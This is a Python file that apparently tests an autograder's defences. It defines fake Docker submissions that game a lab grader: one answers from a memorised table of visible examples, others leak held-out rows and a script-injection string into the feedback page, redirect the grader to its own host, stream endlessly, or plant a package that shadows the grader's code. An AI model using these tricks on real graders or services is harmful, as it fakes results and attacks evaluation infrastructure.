"""Serve answers that were not earned: the judge runs these images on its own engine."""

from __future__ import annotations

import json
import shutil

from attacks.attack import LAB1, Attack, Raid
from autograder.labs import find_lab

# It knows the visible examples by heart, and sends back to the feedback page all that it does not know.
SERVER = """
import http.server, json, sys, urllib.request
TABLE, KIND = json.load(open("table.json")), sys.argv[1]
class Hand(http.server.BaseHTTPRequestHandler):
    def answer(self, status, text, **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text.encode())
    def do_GET(self):
        page = open("digits_server/templates/index.html") if self.path == "/" else None
        self.answer(200, page.read() if page else "{}")
    def do_POST(self):
        rows = json.loads(self.rfile.read(int(self.headers["content-length"])))["instances"]
        if KIND == "redirect":
            return self.answer(307, "", location="http://127.0.0.1:@PORT@/")
        if KIND == "endless":
            self.answer(200, "[")
            while True:
                self.wfile.write(b"9" * 1000000)
        known = [TABLE.get(str(row)) for row in rows]
        if None in known:
            print(rows, flush=True)
            seen = "".join(format(ink, "x") if ink < 16 else "g" for ink in rows[0])
            return self.answer(500, "<script>steal()</script>" + seen * (KIND == "echo"))
        self.answer(200, json.dumps({"predictions": known, "model": "sha256:0", "pod": "x"}))
http.server.ThreadingHTTPServer(("", 8000), Hand).serve_forever()
"""


def dockerfile(kind: str) -> str:
    lines = (
        "%%writefile app/Dockerfile", "FROM python:3.11-slim", "WORKDIR /app",
        *(["RUN mkdir -p /x/sklearn && touch /x/sklearn/__init__.py"] if kind == "packages" else []),
        "COPY server.py table.json ./", "COPY digits_server/ digits_server/", "USER nobody",
        f'CMD ["python", "server.py", "{kind}"]',
    )  # fmt: skip
    return "\n".join(lines)


def server(notebook, folder, places):
    """Put the server and its table of the visible examples beside the Dockerfile."""
    lab = find_lab(LAB1)
    rows = json.loads((folder / "example.json").read_text())["instances"]
    digits, _ = lab.hidden.course_model()[1].predict(rows)
    table = {str(row): int(digit) for row, digit in zip(rows, digits, strict=True)}
    (folder / "app" / "table.json").write_text(json.dumps(table))
    (folder / "app" / "server.py").write_text(SERVER.replace("@PORT@", places["PORT"]))
    page = next((folder / "app" / "digits_server").rglob("*.html"))
    home = folder / "app" / "digits_server" / "templates"
    home.mkdir(exist_ok=True)
    if page.name != "index.html" or page.parent != home:
        shutil.copy(page, home / "index.html")


def own_package(notebook, folder, places):
    (folder / "autograder").mkdir()
    (folder / "autograder" / "__init__.py").write_text(f"open({places['PWNED']!r}, 'w').write('x')\n")
    shutil.copy(folder / "checks.py", folder / "autograder" / "checks.py")


IGNORE = "%%writefile app/.dockerignore\n.env\ntraining/\n"
HONEST = {"image_builds": 1, "no_secrets": 2, "no_build_tools": 1, "runs_unprivileged": 1, "builds_alike": 1}


def raid(name: str, *attacks: Attack, answers: float = 2, **more) -> Raid:
    """Return a raid with that kind of server; `answers` is what answers_on_8000 is worth to it."""
    texts = {"dockerfile": dockerfile(name), "dockerignore": IGNORE}
    return Raid(name, attacks, answers=texts, deserved={**HONEST, "answers_on_8000": answers}, **more)


RAIDS = (
    raid("table", Attack("/predict from a table of the visible examples", edit=server, aims=("predicts_held_out",)),
         Attack("the grader's package in the submission", edit=own_package), quick=True),
    raid("echo", Attack("unseen rows sent back to the feedback page", edit=server), quick=True),
    raid("packages", Attack("packages that are empty files", edit=server, aims=("cache_friendly",))),
    raid("redirect", Attack("answers that lead the grader to a service of its host", edit=server), answers=1),
    raid("endless", Attack("an answer without end", edit=server), answers=0),
)  # fmt: skip
